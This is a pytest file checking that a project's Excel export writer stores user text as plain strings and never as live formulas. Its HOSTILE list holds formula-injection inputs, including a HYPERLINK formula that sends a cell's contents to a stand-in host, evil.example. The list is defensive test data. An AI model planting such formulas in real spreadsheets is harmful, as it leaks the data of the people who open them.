"""The shared Excel writer stores user text as text: nothing a user typed becomes a live formula."""

import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from chuangxian.core.xlsx import Column, Kind, Table, text_cell, write_xlsx

# What Excel, WPS and LibreOffice would run or reinterpret (the OWASP CSV-injection prefixes), plus
# an error code, which openpyxl would otherwise store as an error cell.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "#DIV/0!",
]


def workbook_bytes(tables: list[Table]) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, tables, exported_at=datetime(2011, 3, 1, 10, 0))
    return buffer.getvalue()


def sheet_xml(content: bytes, number: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


def assert_text_only(content: bytes, sheets: int = 1) -> None:
    """No formula anywhere, and every cell that holds a string is an inline or shared string."""
    for number in range(1, sheets + 1):
        xml = sheet_xml(content, number)
        assert "<f>" not in xml and "<f " not in xml
        assert not re.search(r'<c [^>]*t="(?:e|str)"', xml)


@pytest.mark.parametrize("styled", [False, True])
def test_every_text_cell_keeps_its_text_and_is_never_a_formula(styled):
    sheet = Table(
        title="=名单",
        caption="=1+2 · 活动",
        columns=[Column("=表头", Kind.ID if styled else Kind.TEXT), Column("承诺内容", wrap=styled)],
        rows=[[text, text] for text in HOSTILE],
    )
    content = workbook_bytes([sheet])
    assert_text_only(content)
    book = load_workbook(io.BytesIO(content))
    rows = list(book.active.iter_rows())
    assert (rows[0][0].value, rows[0][0].data_type) == ("=1+2 · 活动（导出时间：2011-03-01 10:00）", "s")
    assert (rows[1][0].value, rows[1][0].data_type) == ("=表头", "s")
    for text, row in zip(HOSTILE, rows[2:], strict=True):
        for cell in row:
            assert (cell.value, cell.data_type) == (text, "s")


def test_numbers_and_dates_stay_numbers_and_dates():
    content = workbook_bytes(
        [
            Table(
                title="t",
                columns=[Column("n", Kind.NUMBER), Column("d", Kind.DATE)],
                rows=[[3, date(2011, 7, 1)]],
            )
        ]
    )
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=3))
    assert (row[0].value, row[0].data_type) == (3, "n")
    assert row[1].is_date


def test_text_cell_neutralises_a_cell_of_an_ordinary_workbook():
    """For files written cell by cell (the roster template), not through ``write_xlsx``."""
    workbook = Workbook()
    sheet = workbook.active
    for row, text in enumerate(HOSTILE, start=1):
        text_cell(sheet.cell(row=row, column=1, value=text))
    sheet.cell(row=1, column=2, value=7)
    text_cell(sheet.cell(row=1, column=2))
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert_text_only(buffer.getvalue())
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [(c.value, c.data_type) for (c,) in loaded.iter_rows(max_col=1)] == [(t, "s") for t in HOSTILE]
    assert loaded["B1"].value == 7
